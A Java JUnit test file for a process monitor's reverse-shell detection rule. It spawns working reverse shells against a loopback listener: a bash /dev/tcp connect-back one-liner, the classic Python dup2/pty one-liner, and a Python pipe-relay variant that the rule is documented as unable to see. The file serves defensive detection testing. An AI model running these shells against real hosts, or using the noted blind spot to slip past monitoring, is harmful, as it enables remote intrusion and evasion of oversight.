package dev.picket.judge;

import dev.picket.profile.ThreatRule;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * reverse-shell: an interpreter whose standard streams are a TCP connection, to a listener this test holds
 * on loopback and through which it types commands.
 */
class ReverseShellLocalTest {

    private String bash;

    @BeforeEach
    void tools() {
        Tools.requireTools("bash");
        bash = Tools.real("bash");
    }

    @Test
    void bashOnATcpSocketIsOneViolationItsNonInterpreterChildrenNone() throws Exception {
        try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
                Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
            int port = attacker.getLocalPort();
            String connectBack = "exec bash 0<>/dev/tcp/127.0.0.1/" + port + " 1>&0 2>&0";
            long shell = root.spawnNoWait(null, "bash", "-c", connectBack);
            try (Socket session = attacker.accept()) {
                Tools.awaitExec(shell, bash, java.util.List.of("bash"));
                Finding f = w.await(ThreatRule.REVERSE_SHELL.id());
                Expect.threat(f, ThreatRule.REVERSE_SHELL, shell);
                assertThat(f.subject().exe().path()).isEqualTo(bash);
                assertThat(f.subject().argv().args()).containsExactly("bash");
                assertThat(f.subject().uid().effective()).isZero();
                assertThat(f.remote()).isEqualTo("127.0.0.1:" + port + "/tcp");
                assertThat(f.detail()).isEqualTo(bash + " (pid " + shell + ") has its fd 0 on a network socket to 127.0.0.1:"
                        + port + "/tcp");

                // the attacker runs a tool: it inherits the socket as its stdio, but is no interpreter
                OutputStream typed = session.getOutputStream();
                typed.write("sleep 521 &\n".getBytes(StandardCharsets.US_ASCII));
                typed.flush();
                var tool = w.awaitProcess("521", Duration.ofSeconds(5));
                w.scanFor(Duration.ofSeconds(1));
                assertThat(tool.stdioSockets()).as("the tool's stdio is the socket").isNotEmpty();
                assertThat(w.findings()).as("one shell over many scans, nothing for the tool").containsExactly(f);
                assertThat(w.last().outbound()).as("loopback is never egress, and not judged here").isNotEmpty();
            }
            try (Socket second = connectAnother(root, attacker, connectBack)) {
                w.until(Duration.ofSeconds(5), "a second shell", x -> x.findings().size() == 2);
                assertThat(w.findings().get(1).rule()).isEqualTo(ThreatRule.REVERSE_SHELL.id());
                assertThat(w.findings().get(1).subject().pid()).isNotEqualTo((int) shell);
            }
        }
    }

    private static Socket connectAnother(Spawner root, ServerSocket attacker, String connectBack) throws Exception {
        root.spawnNoWait(null, "bash", "-c", connectBack);
        return attacker.accept();
    }

    /** The classic Python one-liner: the socket on fds 0-2, then a shell on a pty; Python is the relay. */
    @Test
    void pythonRelayingAPtyShellIsCaughtAsTheInterpreterOnTheSocket() throws Exception {
        try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
                Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
            int port = attacker.getLocalPort();
            long relay = root.spawn(Tools.PYTHON, "-c", String.join(";",
                    "import socket, os, pty",
                    "s = socket.create_connection(('127.0.0.1', " + port + "))",
                    "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
                    "pty.spawn('/bin/sh')"));
            try (Socket session = attacker.accept()) {
                w.until(Duration.ofSeconds(10), "the relay", x -> x.findings().stream().anyMatch(f -> f.subject().pid() == relay));
                w.scanFor(Duration.ofMillis(800));
                Finding f = w.findings().stream().filter(x -> x.subject().pid() == relay).findFirst().orElseThrow();
                Expect.threat(f, ThreatRule.REVERSE_SHELL, relay);
                assertThat(f.remote()).isEqualTo("127.0.0.1:" + port + "/tcp");
                // pty.spawn's child is Python on the socket too until it has moved its stdio to the pty and
                // exec'd the shell: a scan in that moment reports it as well, rightly
                assertThat(w.findings()).allSatisfy(x -> {
                    assertThat(x.rule()).isEqualTo(ThreatRule.REVERSE_SHELL.id());
                    assertThat(x.subject().pid() == relay || x.subject().ppid() == relay).isTrue();
                });
            }
        }
    }

    @Test
    void aShellWhoseStdioIsAUnixSocketIsNoReverseShell() {
        try (Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
            long pid = root.spawnNoWait(null, Tools.PYTHON, "-c", String.join(";",
                    "import socket, os",
                    "a, b = socket.socketpair()",
                    "[os.dup2(a.fileno(), fd) for fd in (0, 1, 2)]",
                    "os.execv('" + bash + "', ['bash', '-c', 'sleep 522; :'])"));
            Tools.awaitExec(pid, bash, java.util.List.of("bash", "-c", "sleep 522; :"));
            w.awaitProcess("522", Duration.ofSeconds(5));
            w.scanFor(Duration.ofSeconds(1));
            assertThat(w.last().process((int) pid).stdioSockets()).as("stdio is a socket").hasSize(3);
            assertThat(w.findings()).isEmpty();
        }
    }

    /**
     * What the rule cannot see: a relay that holds the socket on another fd and talks to the shell through
     * pipes (the mkfifo and pty-less relay variants). Neither process has a socket on fds 0-2; off loopback,
     * only the relay's connection (EGRESS, if not allowed) gives it away.
     */
    @Test
    void aShellBehindAPipeRelayIsNotSeenByThisRule() throws Exception {
        try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
                Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
            root.spawn(Tools.PYTHON, "-c", String.join("\n",
                    "import os, socket, subprocess, threading",
                    "s = socket.create_connection(('127.0.0.1', " + attacker.getLocalPort() + "))",
                    "sh = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)",
                    "def pump(read, write):",
                    "    while (data := read(4096)):",
                    "        write(data)",
                    "threading.Thread(target=pump, args=(s.recv, lambda d: os.write(sh.stdin.fileno(), d)), daemon=True).start()",
                    "pump(lambda n: os.read(sh.stdout.fileno(), n), s.sendall)"));
            try (Socket session = attacker.accept()) {
                session.getOutputStream().write("sleep 523\n".getBytes(StandardCharsets.US_ASCII));
                session.getOutputStream().flush();
                w.awaitProcess("523", Duration.ofSeconds(5));
                w.scanFor(Duration.ofMillis(800));
                assertThat(w.findings()).isEmpty();
            }
        }
    }
}
